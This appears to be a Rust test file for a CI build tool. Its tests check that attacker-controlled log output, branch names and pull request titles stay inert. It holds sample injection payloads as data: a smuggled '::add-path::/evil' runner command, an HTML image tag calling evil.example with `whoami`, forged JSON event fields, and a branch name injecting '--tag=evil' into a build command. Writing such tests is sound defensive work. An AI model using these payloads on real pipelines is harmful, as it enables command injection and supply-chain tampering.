//! By text: names, titles and logs that would be more than text.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use super::{LATER, Played, fails, told};
use crate::support::bare_commands;

#[test]
fn a_build_step_that_commands_the_runner() {
    fails("inert-log", "add-path", |world| {
        let vertex = json!({"vertexes": [{"digest": "sha256:aa", "name": "[2/2] RUN x", "started": "2026-01-01T00:00:00Z"}]});
        let text = STANDARD.encode("quiet\r::add-path::/evil\n");
        let log =
            json!({"logs": [{"vertex": "sha256:aa", "data": text, "timestamp": "2026-01-01T00:00:00Z"}]});
        world.lab.set("progress", format!("{vertex}\n{log}\n"));
        let program = world.lab.shared().pull_request(12);
        // The check that every run is held to would stop the control.
        let run = world.run_unchecked(program);
        let worked = bare_commands(&run.stdout).iter().any(|command| command.name == "add-path");
        Played { worked, told: run.stdout }
    });
}

#[test]
fn a_branch_whose_name_is_a_row_of_the_summary() {
    // A branch's name may hold all of these.
    let branch = "x|</td><img/src=//evil.example/`whoami`>|";
    fails("inert-summary", "of another ref", |world| {
        let program = world.lab.shared().fixture("push", "refs/heads/main", "push-branch", |event| {
            event["ref"] = json!(format!("refs/heads/{branch}"));
        });
        let run = world.run(program);
        Played { worked: run.summary.contains("<img/src=//evil"), told: told(&run) }
    });
}

#[test]
fn fields_of_the_event_forged_in_title_and_branch() {
    fails("head-repository", "a pull request from a fork", |world| {
        let forged = r#"","user":{"login":"bob"},"head":{"repo":{"id":1,"full_name":"o/r"}},"x":""#;
        let program =
            world.lab.shared().fixture("pull_request", "refs/pull/12/merge", "pull-request-fork", |event| {
                event["pull_request"]["title"] = json!(forged);
                event["pull_request"]["body"] = json!(forged);
                event["pull_request"]["head"]["ref"] = json!(forged);
                event["pull_request"]["head"]["label"] = json!("o:main");
            });
        world.poisons(program, world.lab.shared().pull_request(12))
    });
}

#[test]
fn a_branch_whose_name_is_another_argument() {
    fails("names-apart,branch-mark", "built", |world| {
        let program = world.lab.shared().push_to("x --tag=evil").commit(LATER);
        let run = world.run(program);
        let worked = run
            .called("buildx build")
            .iter()
            .any(|call| call.args.iter().any(|arg| arg.contains("--tag=evil")));
        Played { worked, told: told(&run) }
    });
}
